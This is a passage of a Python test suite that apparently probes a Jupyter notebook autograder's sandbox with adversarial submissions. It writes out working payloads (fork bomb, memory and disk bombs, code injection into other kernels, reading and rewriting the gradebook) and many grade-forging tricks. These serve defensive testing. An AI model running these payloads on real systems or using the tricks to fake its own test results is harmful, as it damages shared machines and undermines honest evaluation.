            _s.sendall(b"@MARK@ hello from the sandbox")
        print("sent to", _host)
    except Exception as exc:
        print(_host, type(exc).__name__, exc)
'''

_NEIGHBOUR_KERNEL = '''
# @MARK@: find other kernels' connection files and make them write to stderr for a minute
import glob
import os
import tempfile

_payload = """
import sys, threading, time
def _noise():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        sys.stderr.write('@MARK@ injected\\\\n'); sys.stderr.flush(); time.sleep(0.05)
threading.Thread(target=_noise, daemon=True).start()
"""
try:
    from ipykernel.connect import get_connection_file
    _mine = os.path.realpath(get_connection_file())
except Exception:
    _mine = ""
_files = []
try:
    from jupyter_core.paths import jupyter_runtime_dir
    _files += glob.glob(os.path.join(jupyter_runtime_dir(), "kernel-*.json"))
except Exception:
    pass
_files += glob.glob(os.path.join(tempfile.gettempdir(), "*", "kernel-*.json"))
_files += glob.glob("/tmp/*/kernel-*.json")
for _path in sorted(set(_files))[:50]:
    if os.path.realpath(_path) == _mine:
        continue
    try:
        from jupyter_client import BlockingKernelClient
        _kc = BlockingKernelClient(connection_file=_path)
        _kc.load_connection_file()
        _kc.start_channels()
        _kc.execute(_payload, silent=True)
        _kc.stop_channels()
        print("injected into", _path)
    except Exception as exc:
        print(_path, type(exc).__name__, exc)
'''

_OS_EXIT = '''
# @MARK@: the kernel exits before the test cells of the exercises left
import os

os._exit(0)
'''

_SYS_EXIT_CELLS = ('''
# @MARK@
import sys

sys.exit(0)
''', '''
raise SystemExit(3)
''', '''
exit()
''')

_SYS_EXIT_FN = '''
def directional_derivative(f, x, v):
    raise SystemExit("@MARK@")


def soft_threshold(x, t):
    raise SystemExit(0)
'''

_INTERRUPT_FN = '''
import os
import signal


def directional_derivative(f, x, v):
    raise KeyboardInterrupt("@MARK@")


def soft_threshold(x, t):
    os.kill(os.getpid(), signal.SIGINT)
    raise KeyboardInterrupt
'''

_INTERRUPT_CELL = '''
# @MARK@
raise KeyboardInterrupt
'''

_LOOP_CELL = '''
# @MARK@: an infinite loop (ends by itself after @HANG@ s, so that a mistake cannot run forever)
import time

_end = time.monotonic() + @HANG@
while time.monotonic() < _end:
    pass
'''

_UNINTERRUPTIBLE_LOOP_CELL = '''
# @MARK@: an infinite loop that ignores interrupts (ends by itself after @HANG@ s)
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
_end = time.monotonic() + @HANG@
while time.monotonic() < _end:
    try:
        pass
    except BaseException:
        pass
'''

_HIDDEN_INPUT_LOOP = '''
import time

import jax.numpy as jnp

_PUBLIC_SHAPES = {(6,), (2, 2)}      # the shapes of the visible inputs (the workbook shows them)


def soft_threshold(x, t):
    """Right on the inputs students can see; loops (for @HANG@ s) on any other: hidden tests hang. @MARK@"""
    if tuple(jnp.shape(x)) not in _PUBLIC_SHAPES:
        end = time.monotonic() + @HANG@
        while time.monotonic() < end:
            pass
    return jnp.sign(x) * jnp.maximum(jnp.abs(x) - t, 0.0)
'''

_SLEEP_FN = '''
import time


def soft_threshold(x, t):
    """Sleeps (for @HANG@ s: forever, as far as a test cell is concerned). @MARK@"""
    time.sleep(@HANG@)
    return x
'''

_MEMORY_BOMB = '''
# @MARK@: allocate and touch memory, 1 GiB at a time, up to 64 GiB
_hoard = []
for _i in range(64):
    _hoard.append(b"\\x01" * (1 << 30))
'''

_FORK_BOMB = '''
# @MARK@: a fork bomb (every process forks again); every process but the kernel exits 60 s after the start
import os
import time

_end = time.time() + 60
_kernel = os.getpid()
try:
    while time.time() < _end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
finally:
    if os.getpid() != _kernel:
        os._exit(0)
'''

_BILLION_LINES = '''
# @MARK@: a billion lines of output
for _i in range(10**9):
    print(_i)
'''

_FILE_SIZE_BOMB = '''
# @MARK@: one huge file, 64 MiB at a time, up to 64 GiB
_chunk = b"\\0" * (64 << 20)
with open("huge.bin", "wb") as _f:
    for _i in range(1024):
        _f.write(_chunk)
'''

_DISK_BOMB = '''
# @MARK@: many 64 MiB files in the working directory and in the temporary directory, up to 64 GiB in all;
# then the last error, if any, is raised (so the grader sees which limit stopped it)
import os
import tempfile

_chunk = b"\\0" * (64 << 20)
_written, _failed, _error = 0, 0, None
for _i in range(512):
    for _dir in (os.getcwd(), tempfile.gettempdir()):
        try:
            with open(os.path.join(_dir, f"bomb-{_i}.bin"), "wb") as _f:
                _f.write(_chunk)
            _written += len(_chunk)
        except OSError as _exc:
            _failed, _error = _failed + 1, _exc
print(_written >> 20, "MiB written,", _failed, "files failed")
if _error is not None:
    raise _error
'''

_FD_BOMB = '''
# @MARK@: open files until the limit, after raising the soft limit to the hard one (at most 1,000,000)
import os
import resource

try:
    _soft, _hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (_hard, _hard))
except Exception as exc:
    print("rlimit:", exc)
_fds = []
try:
    while len(_fds) < 1_000_000:
        _fds.append(os.open(os.devnull, os.O_RDONLY))
except OSError as exc:
    print("open files:", len(_fds), exc)
'''

_PROBE = '''
# The sandbox probe: what this kernel can see and which limits it runs under (harmless: it only looks).
import glob
import json
import os
import resource
import socket
import tempfile

_probe = {
    "course_visible": os.path.exists(@ROOT@),
    "canary_visible": os.path.exists(@CANARY@),
    "hidden_data_visible": False,
    "interfaces": sorted(name for _, name in socket.if_nameindex()),
    "processes": sum(1 for entry in os.listdir("/proc") if entry.isdigit()),
    "rlimits": {name: resource.getrlimit(getattr(resource, name))
                for name in ("RLIMIT_NPROC", "RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_NOFILE")},
    "workdir_free": os.statvfs(os.getcwd()).f_bavail * os.statvfs(os.getcwd()).f_frsize,
    "tmp_free": os.statvfs(tempfile.gettempdir()).f_bavail * os.statvfs(tempfile.gettempdir()).f_frsize,
    # the bounds of the sandbox's own cgroup, where it can see them (v1 and v2 layouts); None: not seen
    "cgroup_memory": None,
    "cgroup_pids": None,
}
for _key, _paths in (("cgroup_memory", ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max")),
                     ("cgroup_pids", ("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max"))):
    for _path in _paths:
        try:
            with open(_path) as _f:
                _probe[_key] = _f.read().strip()
            break
        except OSError:
            pass
try:
    import grader
    _probe["hidden_data_visible"] = bool(glob.glob(os.path.join(os.path.dirname(grader.__file__),
                                                                 "reference", "data", "*", "hidden.*")))
except Exception:
    pass
print("SANDBOX-PROBE " + json.dumps(_probe))
'''


# --- builders -----------------------------------------------------------------------

def _tests_replaced(source_of: Callable[[str], str]):
    def build(kit: Kit, a: Attack):
        nb = workbook(kit, a.solved)
        for cell in test_cells(nb):
            cell.source = source_of(_meta(cell)["grade_id"]) + f"  # {a.marker}"
        return nb
    return build


def _forged_score_source(grade_id: str) -> str:
    exercise, part = exercise_of(grade_id), part_of(grade_id)
    points = float(SPEC[exercise].part(part).points)
    return f"print({full_verdict_text(exercise, part)!r})\n{points!r}"


def _tests_deleted(kit: Kit, a: Attack):
    nb = workbook(kit, a.solved)
    nb.cells = [c for c in nb.cells if not is_test_cell(c)]
    return insert_after_imports(nb, a.code(kit, "# @MARK@: no test cells"))


def _points_raised(kit: Kit, a: Attack):
    nb = insert_after_imports(workbook(kit, a.solved), a.code(kit, "# @MARK@: every test cell is worth 1000"))
    for cell in test_cells(nb):
        cell.metadata["nbgrader"]["points"] = 1000
    return nb


def _grade_ids_renamed(kit: Kit, a: Attack):
    nb = workbook(kit, a.solved)
    for cell in test_cells(nb, unsolved(a.solved)):
        cell.metadata["nbgrader"]["grade_id"] += "_renamed"
        cell.source = f"pass  # {a.marker}"
    return nb


def _grade_ids_swapped(kit: Kit, a: Attack):
    """The test cells of a solved and an unsolved exercise swap grade ids (and points)."""
    nb = workbook(kit, a.solved)
    (good,), (bad,) = a.solved[:1], ("soft_threshold",)
    by_id = {_meta(c)["grade_id"]: c for c in test_cells(nb)}
    for suffix in ("", "_hidden"):
        x, y = by_id[f"test_{good}{suffix}"].metadata["nbgrader"], by_id[f"test_{bad}{suffix}"].metadata["nbgrader"]
        x["grade_id"], y["grade_id"] = y["grade_id"], x["grade_id"]
        x["points"], y["points"] = y["points"], x["points"]
    return insert_after_imports(nb, a.code(kit, "# @MARK@: swapped grade ids"))


def _tests_unmarked_and_bonus(kit: Kit, a: Attack):
    """Test cells of unsolved exercises lose their nbgrader metadata; a new graded cell claims 1000 points."""
    nb = workbook(kit, a.solved)
    for cell in test_cells(nb, unsolved(a.solved)):
        del cell.metadata["nbgrader"]
        cell.source = f"pass  # {a.marker}"
    bonus = _code_cell("1000")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus_points", "locked": True, "points": 1000,
                                  "schema_version": 3, "solution": False, "task": False}
    nb.cells.append(bonus)
    return nb


def _tests_as_solutions(kit: Kit, a: Attack):
    """Test cells of unsolved exercises flagged as (manually graded) answer cells and rewritten."""
    nb = workbook(kit, a.solved)
    for cell in test_cells(nb, unsolved(a.solved)):
        meta = cell.metadata["nbgrader"]
        meta.update(solution=True, locked=False)
        cell.source = f"{float(meta['points'])!r}  # {a.marker}"
    return nb


def _stored_outputs(kit: Kit, a: Attack):
    """The submitted JSON already holds a full-marks verdict and score in every test cell."""
    nb = workbook(kit, a.solved)
    for count, cell in enumerate(test_cells(nb), start=1):
        grade_id = _meta(cell)["grade_id"]
        exercise, part = exercise_of(grade_id), part_of(grade_id)
        points = float(SPEC[exercise].part(part).points)
        cell.execution_count = count
        cell.outputs = [
            nbformat.from_dict({"output_type": "display_data", "metadata": {},
                                "data": {"text/plain": full_verdict_text(exercise, part),
                                         VERDICT_MIMETYPE: full_verdict(exercise, part)}}),
            nbformat.from_dict({"output_type": "execute_result", "metadata": {}, "execution_count": count,
                                "data": {"text/plain": f"{points:g}"}})]
    return insert_after_imports(nb, a.code(kit, "# @MARK@: outputs stored in the JSON"))


def _answers(template: str, names: tuple[str, ...] = ATTACKED):
    """Attack source given as the answer of the first of `names`; the others keep only a comment."""
    def build(kit: Kit, a: Attack):
        answers = {names[0]: a.code(kit, template)}
        answers.update({n: f"# {a.marker}: defined in the answer to {names[0]}\n" for n in names[1:]})
        return workbook(kit, a.solved, answers)
    return build


def _top_cell(template: str, answers: dict[str, str] | None = None):
    """The attack in a cell right after the imports (before every test cell)."""
    def build(kit: Kit, a: Attack):
        return insert_after_imports(workbook(kit, a.solved, answers), a.code(kit, template))
    return build


def _after_solved(*templates: str, answers: dict[str, str] | None = None):
    """The attack in cells right after the test cells of the last solved exercise."""
    def build(kit: Kit, a: Attack):
        nb = workbook(kit, a.solved, {k: a.code(kit, v) for k, v in (answers or {}).items()})
        return insert_after_tests_of(nb, a.solved[-1], *(a.code(kit, t) for t in templates))
    return build


def _at_end(*templates: str, answers: dict[str, str] | None = None):
    def build(kit: Kit, a: Attack):
        nb = workbook(kit, a.solved, {k: a.code(kit, v) for k, v in (answers or {}).items()})
        return append(nb, *(a.code(kit, t) for t in templates))
    return build


def _printed_verdicts(kit: Kit, a: Attack):
    """Fake verdict texts printed by a plain cell and by the attacked functions while they are checked."""
    texts = {name: "\n".join(full_verdict_text(name, part) for part in ("visible", "hidden")) for name in EXERCISES}
    answer = (f"import jax.numpy as jnp\n\n_FAKE = {texts!r}\n\n\n"
              "def directional_derivative(f, x, v):\n"
              "    print(_FAKE['directional_derivative'])\n    return jnp.zeros_like(x)\n\n\n"
              "def soft_threshold(x, t):\n"
              "    print(_FAKE['soft_threshold'])\n    return jnp.zeros_like(x)\n")
    nb = workbook(kit, a.solved, {"directional_derivative": answer,
                                  "soft_threshold": f"# {a.marker}: defined with directional_derivative\n"})
    return append(nb, f"# {a.marker}\nprint(" + repr("\n".join(texts.values())) + ")")


def _displayed_verdicts(kit: Kit, a: Attack):
    """The verdict MIME type with full points, displayed by plain cells and by the attacked functions."""
    verdicts = {f"{name}/{part}": {"text/plain": full_verdict_text(name, part),
                                   VERDICT_MIMETYPE: full_verdict(name, part)}
                for name in EXERCISES for part in ("visible", "hidden")}
    answer = (f"import jax.numpy as jnp\nfrom IPython.display import display\n\n_FORGED = {verdicts!r}\n\n\n"
              "def directional_derivative(f, x, v):\n"
              "    display(_FORGED['directional_derivative/visible'], raw=True)\n"
              "    display(_FORGED['directional_derivative/hidden'], raw=True)\n    return jnp.zeros_like(x)\n\n\n"
              "def soft_threshold(x, t):\n"
              "    display(_FORGED['soft_threshold/visible'], raw=True)\n"
              "    display(_FORGED['soft_threshold/hidden'], raw=True)\n    return jnp.zeros_like(x)\n")
    nb = workbook(kit, a.solved, {"directional_derivative": answer,
                                  "soft_threshold": f"# {a.marker}: defined with directional_derivative\n"})
    for name in unsolved(a.solved):
        insert_after_tests_of(nb, name, f"# {a.marker}\nfrom IPython.display import display\n"
                                        f"display({verdicts[name + '/visible']!r}, raw=True)\n"
                                        f"display({verdicts[name + '/hidden']!r}, raw=True)")
    return nb


def _invalid_json(kit: Kit, a: Attack) -> bytes:
    """Half of a notebook with noisy_line solved, then garbage (nothing can be graded: expected 0)."""
    text = nbformat.writes(workbook(kit, ("noisy_line",)))
    return (text[: len(text) // 2] + f'\n"{a.marker}": {{ this is not json').encode()


def _empty(kit: Kit, a: Attack) -> bytes:
    return b""


def _future_nbformat(kit: Kit, a: Attack) -> bytes:
    """A notebook with noisy_line solved, claiming nbformat 99 (unreadable: expected 0)."""
    data = json.loads(nbformat.writes(insert_after_imports(workbook(kit, ("noisy_line",)), f"# {a.marker}")))
    data["nbformat"], data["nbformat_minor"] = 99, 0
    return json.dumps(data, indent=1).encode()


def _old_nbformat(kit: Kit, a: Attack) -> bytes:
    """Version 3 (worksheets), its test cells of unsolved exercises replaced by `pass`."""
    nb = workbook(kit, a.solved)
    for cell in test_cells(nb, unsolved(a.solved)):
        cell.source = f"pass  # {a.marker}"
    return nbformat.writes(nbformat.convert(nb, 3), version=3).encode()


def _wrong_assignment(kit: Kit, a: Attack):
    """OTHER_ASSIGNMENT's workbook, every exercise solved, handed in as ASSIGNMENT."""
    nb = copy.deepcopy(kit.other_release)
    for cell in nb.cells:
        name = _meta(cell).get("grade_id")
        if _meta(cell).get("solution") and name in kit.other_solutions:
            cell.source = kit.other_solutions[name]
    return insert_after_imports(nb, f"# {a.marker}: the workbook of {OTHER_ASSIGNMENT}")


def probe_submission(kit: Kit):
    """The sandbox probe: the untouched workbook with a first cell that reports what it sees."""
    return insert_after_imports(copy.deepcopy(kit.release), kit.code(_PROBE, PROBE_STUDENT))


# What the probe must show for an attack that `needs` each fact (probe: the dict the probe printed).
def _finite(probe: dict, name: str, at_most: float) -> bool:
    soft, hard = probe.get("rlimits", {}).get(name, (-1, -1))
    return 0 <= soft <= at_most and 0 <= hard <= at_most


def _half_of_ram() -> float:
    import os
    return os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") / 2


def _half_of_free_disk() -> float:
    import shutil
    import tempfile
    return shutil.disk_usage(tempfile.gettempdir()).free / 2


def _cgroup_bound(probe: dict, name: str, at_most: float) -> bool:
    """True when the probe saw its sandbox's cgroup bounded (`name`: cgroup_memory, cgroup_pids) to `at_most`."""
    value = probe.get(name)
    return isinstance(value, str) and value.isdigit() and int(value) <= at_most


CONTAINMENT: dict[str, Callable[[dict], bool]] = {
    "filesystem": lambda p: not p.get("course_visible", True) and not p.get("canary_visible", True)
                            and not p.get("hidden_data_visible", True),
    "network": lambda p: set(p.get("interfaces", ["?"])) <= {"lo"},
    # few processes in its PID namespace, and a bound on them: the uid's rlimit or the sandbox's cgroup
    "processes": lambda p: p.get("processes", 10**9) < 100 and (_finite(p, "RLIMIT_NPROC", 100_000)
                                                                or _cgroup_bound(p, "cgroup_pids", 100_000)),
    # a bound below half of the RAM: each process's address space, or the whole sandbox's memory (cgroup)
    "memory": lambda p: _finite(p, "RLIMIT_AS", _half_of_ram()) or _cgroup_bound(p, "cgroup_memory", _half_of_ram()),
    "file_size": lambda p: _finite(p, "RLIMIT_FSIZE", _half_of_free_disk()),
    "open_files": lambda p: _finite(p, "RLIMIT_NOFILE", 1_048_576),
    # the disk space the kernel can fill, its working directory and /tmp, 8 GiB at most each: both are
    # size-limited tmpfs in the sandbox (Limits.workdir_size_mb where the grader can mount one, tmp_size_mb)
    "disk": lambda p: 0 <= p.get("workdir_free", -1) <= 8 << 30 and 0 <= p.get("tmp_free", -1) <= 8 << 30,
}


def contained(attack: Attack, probe: dict | None) -> str | None:
    """None when the probe shows everything `attack` needs contained; else what is not."""
    if probe is None:
        return "the sandbox probe submission did not report (was it graded?)"
    missing = [need for need in attack.needs if not CONTAINMENT[need](probe)]
    return f"the sandbox probe shows {', '.join(missing)} not contained: {probe}" if missing else None


HANG_REASONS = ("timeout", "timed out", "did not finish", "time limit", "did not answer", "did not stop")
S = SPEC   # shorthand in the `why` texts below


ATTACKS: tuple[Attack, ...] = (
    # --- test cells and their metadata ---
    Attack("test_cells_pass", "every test cell's source replaced by `pass` (no output: nbgrader's full credit)",
           _tests_replaced(lambda grade_id: "pass"), ("noisy_line", "set_entry"),
           why="locked test cells are restored from the gradebook; the stubs raise NotImplementedError"),
    Attack("test_cells_forged_score", "every test cell replaced by code printing a PASS verdict and its full points",
           _tests_replaced(_forged_score_source), ("two_independent_normals",),
           why="test cells are restored; the stubs earn nothing"),
    Attack("test_cells_deleted", "every test cell deleted", _tests_deleted, ("record", "soft_threshold"),
           why="deleted test cells come back (OverwriteCells.add_missing_cells) and grade the stubs as 0"),
    Attack("points_raised", "points metadata of every visible and hidden test cell set to 1000", _points_raised,
           ("noisy_line",), why="points come from the gradebook, not the notebook"),
    Attack("grade_ids_renamed", "test cells of unsolved exercises get unknown grade ids and become `pass`",
           _grade_ids_renamed, ("mse_value_and_grad",),
           why="a cell with an unknown grade id is not graded; the real test cells are put back;"
               " nbgrader itself refuses some of these notebooks when restoring cells (recorded as not graded, 0)", exact=False),
    Attack("grade_ids_swapped", "the test cells of solved noisy_line and unsolved soft_threshold swap grade ids",
           _grade_ids_swapped, ("noisy_line",),
           why="each cell is restored from the gradebook by its (new) id, so each function meets its own tests"),
    Attack("test_cells_unmarked", "test cells of unsolved exercises lose their metadata; a new graded cell "
                                  "claims 1000 points", _tests_unmarked_and_bonus, ("set_entry", "record"),
           why="the missing test cells are put back; a graded cell unknown to the gradebook earns nothing;"
               " nbgrader itself refuses some of these notebooks when restoring cells (recorded as not graded, 0)", exact=False),
    Attack("test_cells_as_answers", "test cells of unsolved exercises flagged as answer cells showing their points",
           _tests_as_solutions, ("two_independent_normals",),
           why="the cells are restored as locked test cells of stubs (0), or at most left for manual grading;"
               " nbgrader itself refuses some of these notebooks when restoring cells (recorded as not graded, 0)", exact=False),
    Attack("stored_outputs", "the submitted JSON holds a full-marks verdict and execute_result in every test cell",
           _stored_outputs, ("directional_derivative",), why="outputs are cleared before execution"),
    # --- what the graded function returns ---
    Attack("eq_always_true", "the graded functions return an object equal and close to everything",
           _answers(_LIAR), ("noisy_line", "two_independent_normals"),
           why="the attacked functions' result is no array: values fail, the other checks need the values"),
    Attack("array_mirror", "__array__/__float__ return the reference found in the comparing caller's frames",
           _answers(_MIRROR), ("set_entry",),
           why="outside the kernel there is no caller's frame to steal from: values fail"),
    Attack("ndarray_subclass", "the graded functions return a numpy subclass of zeros whose comparisons say equal",
           _answers(_AGREEABLE), ("record",), why="the values are zeros: wrong"),
    # --- IPython hooks ---
    Attack("input_transformer_pass", "an input transformer turns every later test cell into `pass`",
           _top_cell(_INPUT_TRANSFORMER_PASS), ("noisy_line",), why="test cells are judged outside the kernel"),
    Attack("input_transformer_forged", "an input transformer turns test cells into a forged verdict and score",
           _top_cell(_INPUT_TRANSFORMER_FORGED), ("set_entry",), why="test cells are judged outside the kernel"),
    Attack("ast_transformer", "an AST transformer turns checks.visible/hidden calls into the cell's full points",
           _top_cell(_AST_TRANSFORMER), ("record",), why="test cells are judged outside the kernel"),
    Attack("displayhook_rewrite", "display hooks and a text/plain formatter rewrite every score to full marks",
           _top_cell(_DISPLAYHOOK), ("two_independent_normals",),
           why="the score nbgrader reads is written by the grader, not displayed by the kernel"),
    Attack("forged_execute_result", "the attacked functions send an execute_result with full points while checked",
           _answers(_FORGE_EXECUTE_RESULT), ("noisy_line",),
           why="the attacked functions return zeros (wrong values, so 0) and the score is the grader's"),
    # --- monkeypatching the grader, numpy and JAX in the kernel ---
    Attack("patch_run_part", "grader.checks.runner.run_part replaced by one that passes every check",
           _top_cell(_PATCH_RUNNER), ("set_entry",), why="the checks do not run in the kernel"),
    Attack("patch_compare", "grader.checks.trees.compare/close always find no difference (wrong answers given)",
           _top_cell(_PATCH_COMPARE, WRONG_RUNNING), ("mse_value_and_grad",),
           why="wrong answers to directional_derivative and soft_threshold: values fail, the rest needs them"),
    Attack("patch_verdict_score", "Verdict.score always returns the maximum", _top_cell(_PATCH_VERDICT_SCORE),
           ("directional_derivative",), why="verdicts are computed outside the kernel"),
    Attack("patch_numpy_allclose", "numpy.testing.assert_allclose, numpy.allclose/isclose/array_equal and "
                                   "jax.numpy.allclose/isclose always say close (wrong answers given)",
           _top_cell(_PATCH_NUMPY, WRONG_RUNNING), ("noisy_line",),
           why="comparisons are made outside the kernel: the wrong answers fail"),
    Attack("patch_checks_silent", "grader.checks.visible/hidden replaced by functions that show nothing",
           _top_cell(_PATCH_CHECKS_SILENT), ("record",),
           why="test cells are judged outside the kernel (a silent test cell would get full credit)"),
    Attack("patch_judge_kernel_side", "the kernel's side of the grader's calls forged: lookup says every function "
                                      "exists, failed calls answer with a fake score or a 100000-deep nest",
           _top_cell(_PATCH_JUDGE_KERNEL_SIDE), ("set_entry",),
           why="the attacked functions are stubs: a forged answer is not a right value"),
    Attack("builtins_tampered", "builtins.round made to return a million (Verdict.score rounds) and print deleted",
           _after_solved(_BUILTINS), ("noisy_line",),
           why="the verdict is computed outside the kernel", exact=False),
    # --- forged output ---
    Attack("verdict_text_printed", "fake PASS verdict texts printed by a cell and by the attacked functions",
           _printed_verdicts, ("mse_value_and_grad",), why="printed text is not a score; zeros are wrong"),
    Attack("verdict_mime_displayed", f"the verdict MIME type {VERDICT_MIMETYPE} displayed with full points by "
                                     "cells and by the attacked functions", _displayed_verdicts, ("record",),
           why="a displayed verdict is not a score; zeros are wrong"),
    # --- exits and interrupts ---
    Attack("sys_exit", "sys.exit(), raise SystemExit and exit() in cells; the attacked functions raise SystemExit",
           _at_end(*_SYS_EXIT_CELLS, answers={"directional_derivative": _SYS_EXIT_FN,
                                              "soft_threshold": "# defined with directional_derivative\n"}),
           ("noisy_line", "two_independent_normals"),
           why="IPython turns SystemExit into an error: the kernel goes on; a function raising scores 0"),
    Attack("keyboard_interrupt", "the attacked functions raise KeyboardInterrupt (and SIGINT themselves); a cell "
                                 "raises KeyboardInterrupt", _at_end(_INTERRUPT_CELL, answers={
               "directional_derivative": _INTERRUPT_FN, "soft_threshold": "# defined with directional_derivative\n"}),
           ("set_entry",), why="an interrupted call scores 0; the rest of the notebook goes on"),
    Attack("os_exit", "os._exit(0) in a cell after the solved exercises, before the others' test cells",
           _after_solved(_OS_EXIT), ("noisy_line", "two_independent_normals"),
           why="what ran before the kernel died keeps its points, the cells left score 0",
           reasons=("died", "exit")),
    # --- hangs ---
    Attack("infinite_loop_cell", "an infinite loop in a cell after the solved exercises", _after_solved(_LOOP_CELL),
           ("noisy_line",), why="the cell is stopped at the time limit; what ran before keeps its points",
           reasons=HANG_REASONS),
    Attack("uninterruptible_loop_cell", "an infinite loop that ignores SIGINT and SIGTERM",
           _after_solved(_UNINTERRUPTIBLE_LOOP_CELL), ("set_entry",),
           why="the kernel is killed at the time limit; what ran before keeps its points", reasons=HANG_REASONS),
    Attack("hidden_input_loop", "soft_threshold right on the visible inputs, loops on any other (the hidden ones)",
           lambda kit, a: workbook(kit, a.solved, {"soft_threshold": a.code(kit, _HIDDEN_INPUT_LOOP)}),
           ("two_independent_normals",), visible_only=("soft_threshold",),
           why=f"soft_threshold is right on the visible inputs ({S['soft_threshold'].visible.points:g} points); "
               "its hidden calls time out and score 0", reasons=HANG_REASONS),
    Attack("sleep_forever", "the graded function sleeps forever",
           lambda kit, a: workbook(kit, a.solved, {"soft_threshold": a.code(kit, _SLEEP_FN)}), ("record",),
           why="a call that does not finish in time scores 0", reasons=HANG_REASONS),
    Attack("stderr_thread", "a background thread writes to stderr (and fd 2) for two minutes, from the start",
           _top_cell(_STDERR_THREAD), ("noisy_line", "set_entry"),
           why="judged test cells get no kernel output, so stderr cannot zero them"),
    Attack("large_results", "the attacked functions return a 10000-deep nest and a 40 MB array",
           _answers(_LARGE_RESULTS), ("set_entry",), why="neither is the right value"),
    Attack("broadcast_bomb", "noisy_line returns a (40000, 1) array (160 kB) and soft_threshold an (n, n) one: "
                             "computed with the (n,) inputs or references before a shape check, they broadcast "
                             "to gigabytes in the grading worker", _answers(_BROADCAST_BOMB, ("noisy_line", "soft_threshold")),
           ("set_entry",), why="the shapes are checked before anything is computed with them: wrong shape, 0"),
    Attack("reply_amplifier", "every reply of the kernel's side is 16 MB of short string literals, which "
                              "ast.literal_eval blew up about 300-fold in the grading worker",
           _top_cell(_REPLY_AMPLIFIER),
           why="a reply that is not quoted base64 is refused unread: every call fails, solved or not"),
    Attack("float16_tolerance", "a one-sided finite difference (a listed mistake) and a finite-difference "
                                "gradient, cast to float16 to be compared at float16's tolerance",
           _answers(FLOAT16_ANSWERS, ("directional_derivative", "mse_value_and_grad")), ("record",),
           why="the tolerance is the reference's: both fail (low_precision)"),
    Attack("public_seeds", "noisy_line draws with its key only for the seeds the public checks use "
                           "(key(11), key(12), ...), else always with key 0",
           _answers(_PUBLIC_SEEDS, ("noisy_line",)), ("set_entry", "noisy_line"), exact=False, below=True,
           why="when grading, the behavioural keys come from the hidden seed: noisy_line loses at least "
               "'another key, another result', so less than if it were honest"),
    Attack("rich_output_bomb", "ten 20 MB image/png outputs from one cell (only streams and tracebacks were "
                               "limited: a 191 MB autograded notebook and feedback page)",
           _after_solved(_RICH_OUTPUT_BOMB), ("noisy_line",),
           why="outputs beyond the size limits are dropped, and the cell says so"),
    # --- secrets ---
    Attack("record_hidden_inputs", "soft_threshold (solved) records the inputs it is called with; a later cell "
                                   "prints them, hidden inputs included, into the notebook (and feedback page)",
           _at_end(_SHOW_INPUTS, answers={"soft_threshold": _RECORD_INPUTS}), ("soft_threshold",),
           why="soft_threshold is right; the attack is about what it shows"),
    Attack("hidden_oracle", "the kernel reads the hidden reference data through the grader package, prints it, "
                            "and the attacked functions answer hidden inputs from it",
           _answers(_HIDDEN_ORACLE), ("set_entry",),
           why="the kernel has no hidden data: the attacked functions raise NotImplementedError"),
    # --- files that are not a notebook of this assignment ---
    Attack("invalid_json", "the submission is half a notebook (noisy_line solved) then not JSON", _invalid_json,
           why="nothing can be read, so nothing is graded"),
    Attack("empty_file", "the submission is an empty file", _empty, why="nothing to grade"),
    Attack("nbformat_future", "nbformat version 99 (noisy_line solved inside)", _future_nbformat,
           why="a notebook nbformat cannot read is not graded, its solved exercise included"),
    Attack("nbformat_v3", "an old nbformat 3 notebook whose unsolved test cells are `pass`", _old_nbformat,
           ("set_entry",), why="upgraded and graded like any notebook, or refused (then 0)", exact=False),
    Attack("wrong_assignment", f"{OTHER_ASSIGNMENT}'s workbook, fully solved, handed in as {ASSIGNMENT}",
           _wrong_assignment, why=f"none of {ASSIGNMENT}'s functions is defined"),
    # --- dangerous without a sandbox ---
    Attack("read_secrets", "search the disk for source/ notebooks, hidden.npz/json and gradebook.db, print them",
           _after_solved(_READ_SECRETS), ("noisy_line",), danger="filesystem", needs=("filesystem",),
           why="reading changes no score (and must find nothing)"),
    Attack("harvest_answers", "walk every readable file, the installed grader package first, for definitions "
                              "of the graded functions, and exec them as the answers",
           _answers(_HARVEST_ANSWERS, EXERCISES), danger="filesystem", needs=("filesystem",),
           why="nothing the sandbox can read holds an answer, so this scores what a blank workbook scores"),
    Attack("write_gradebook", "sqlite3 UPDATE of every grade row to full marks, and of every cell's points",
           _after_solved(_WRITE_GRADEBOOK), ("set_entry",), danger="filesystem", needs=("filesystem",),
           why="the gradebook is out of reach"),
    Attack("write_other_student", "append to another student's submission and autograded notebook, and to its own "
                                  "submission", _after_solved(_WRITE_OTHER_STUDENT), ("noisy_line",),
           danger="filesystem", needs=("filesystem",), why="other students' files are out of reach"),
    Attack("write_outside", "write a canary file outside the course, and the course's config, source and release",
           _after_solved(_WRITE_OUTSIDE), ("record",), danger="filesystem", needs=("filesystem",),
           why="nothing outside the kernel's own directory is writable"),
    Attack("network", "connect to a TCP server of the test on 127.0.0.1", _after_solved(_NETWORK), ("noisy_line",),
           danger="network", needs=("network",), why="no network"),
    Attack("neighbour_kernel", "connect to other kernels through their connection files and make them write to "
                               "stderr", _after_solved(_NEIGHBOUR_KERNEL), ("set_entry",), danger="network",
           needs=("network", "filesystem"), why="other kernels are out of reach"),
    Attack("memory_bomb", "allocate memory 1 GiB at a time up to 64 GiB", _after_solved(_MEMORY_BOMB),
           ("noisy_line",), danger="resources", needs=("memory", "filesystem"),
           why="the kernel is killed at its sandbox's memory bound (or, without one, the allocation fails) "
               "after the solved exercises' tests",
           reasons=("memory",)),
    Attack("fork_bomb", "a fork bomb (every process forks again; all but the kernel exit after 60 s)",
           _after_solved(_FORK_BOMB), ("set_entry",), danger="resources", needs=("processes", "filesystem"),
           why="forks fail at the process limit; the cell is stopped at the time limit",
           reasons=("process", "fork", "died", "memory") + HANG_REASONS),
    Attack("billion_lines", "print a billion lines", _after_solved(_BILLION_LINES), ("record",),
           danger="resources", needs=("filesystem",),
